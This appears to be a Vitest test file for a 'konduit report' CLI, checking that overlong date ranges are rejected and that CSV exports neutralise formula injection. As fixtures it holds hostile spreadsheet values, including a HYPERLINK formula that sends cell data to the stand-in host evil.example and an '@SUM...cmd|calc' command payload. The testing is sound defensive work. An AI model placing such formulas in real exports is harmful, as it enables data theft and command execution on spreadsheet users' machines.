/**
 * `konduit report` against the hardening review: a range in year 9999 (finding 3) and affiliate values
 * written as spreadsheet formulas (finding 9), end to end through the CLI entry point.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { crmWallToInstant } from '../../core/time.js';
import { openDuckDbStore } from '../../store/engines/duckdb/duckdb-store.js';
import { keyFromPassphrase } from '../../store/secrets.js';
import type { EventKind } from '../../ledger/index.js';
import { runCli } from '../../../test/cli.js';

let dir: string;
let db: string;
const env = { ...process.env };
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'konduit-report-limits-'));
  process.env.KONDUIT_HOME = join(dir, 'home');
  process.env.KONDUIT_SECRET = 'report-limits-test';
  db = join(dir, 'r.duckdb');
  const store = await openDuckDbStore(db, { secretKey: keyFromPassphrase('report-limits-test') });
  await store.migrate();
  const c = await store.saveConnection({ name: 'shop', brand: 'konnektive', baseUrl: 'http://x', loginId: 'x', password: 'x', accountName: 'A', accountUsername: 'U', timezone: 'America/New_York', frequency: 'daily' });
  const at = (w: string) => crmWallToInstant(w, 'America/New_York') ?? 0;
  const ev = (id: number, kind: EventKind, wall: string, cents: number, affId: string) => ({
    event_id: `${kind}:${id}`, kind, transaction_id: id, instant: at(wall), amount_cents: cents, customer_id: id, order_id: `O${id}`, purchase_id: null,
    campaign_id: 7, product_id: 70, aff_id: affId, source_value1: '@SUM(1+1)*cmd|calc', merchant_id: 3, billing_cycle: 1, is_initial: true, currency: 'USD', coupon_code: null, attribution: null,
  });
  // An affiliate whose id is a formula; its refund makes its net revenue negative.
  await store.writePage({
    connectionId: c.connectionId, table: 'transactions', rows: [1, 2, 3].map((id) => ({ transaction_id: id, customer_id: id })),
    ledger: { transactionIds: [1, 2, 3], events: [ev(1, 'sale', '2025-01-05 10:00:00', 1000, FORMULA), ev(2, 'refund', '2025-01-06 10:00:00', -2250, FORMULA), ev(3, 'sale', '2025-01-07 10:00:00', 500, '-1+1')] },
  });
  await store.close();
});
afterAll(async () => {
  process.env = env;
  await rm(dir, { recursive: true, force: true });
});

describe('konduit report limits', () => {
  it('finding 3: mids over 9999-12-31 exits 2 with the supported range instead of exhausting the heap', async () => {
    const r = await runCli(['report', 'mids', '--from', '9999-12-31', '--to', '9999-12-31', '--db', db]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^konduit: from "9999-12-31" is not a date from 2000-01-01 to 2100-12-31/);
    expect(r.err).not.toContain('unexpected');
  });

  it('finding 3: a daily series over a century exits 2 and says how to shorten it', async () => {
    const r = await runCli(['report', 'series', '--by', 'day', '--from', '2000-01-01', '--to', '2100-12-31', '--db', db]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/36890 days; a report covers at most 3660 periods\nhint: Choose a shorter range, or cut it by week or month/);
  });

  it('finding 9: CSV cells holding affiliate formulas are neutralised; negative amounts stay numbers', async () => {
    for (const by of ['affiliate', 'subaffiliate']) {
      const r = await runCli(['report', 'summary', '--from', '2025-01-01', '--to', '2025-01-31', '--tz', 'America/New_York', '--group-by', by, '--format', 'csv', '--db', db]);
      expect(r.code).toBe(0);
      const cells = r.out.split('\r\n').flatMap((line) => line.split(','));
      // No cell a spreadsheet would run: each one starting with = + - @ is a plain number or quoted text.
      for (const cell of cells) if (/^"?[=+\-@\t\r]/.test(cell)) expect(cell, r.out).toMatch(/^-?\d+(\.\d+)?$/);
      if (by === 'affiliate') {
        expect(r.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
        expect(r.out).toContain("'-1+1");
        expect(r.out).toMatch(/,-12\.50,/);
      } else {
        expect(r.out).toContain("'@SUM(1+1)*cmd|calc");
      }
    }
  });
});
